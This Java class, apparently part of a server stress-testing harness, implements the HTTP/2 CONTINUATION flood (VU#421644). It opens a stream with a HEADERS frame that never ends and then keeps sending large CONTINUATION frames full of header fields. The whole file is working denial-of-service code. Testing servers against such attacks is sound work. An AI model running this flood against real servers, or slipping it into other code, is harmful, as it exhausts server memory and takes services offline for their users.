package dev.pintle.bench.siege;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.nio.ByteBuffer;

/** A head over HTTP/2 that never ends: CONTINUATION after CONTINUATION (VU#421644). */
final class Continuations extends Hostile {
  /** A field without indexing, of 100 bytes (RFC 7541, section 6.2.2). */
  private static final String FIELD = "\0\1x\144" + "x".repeat(100);

  private static final byte[] MORE =
      new Http2Frames()
          .add(Http2Frames.CONTINUATION, 0, 1, FIELD.repeat(150).getBytes(US_ASCII))
          .bytes();

  private static final byte[] BEGIN =
      new Http2Frames()
          .preface()
          .add(Http2Frames.HEADERS, Http2Frames.END_STREAM, 1, Http2Frames.GET_LINE)
          .bytes();

  private final RecordScan replies = Http2Frames.scan();
  private boolean begun;

  @Override
  Move next() {
    if (begun) {
      return Move.send(MORE);
    }
    begun = true;
    return Move.send(BEGIN, 1);
  }

  @Override
  void received(ByteBuffer bytes, Tally tally) {
    replies.read(bytes, tally);
  }
}
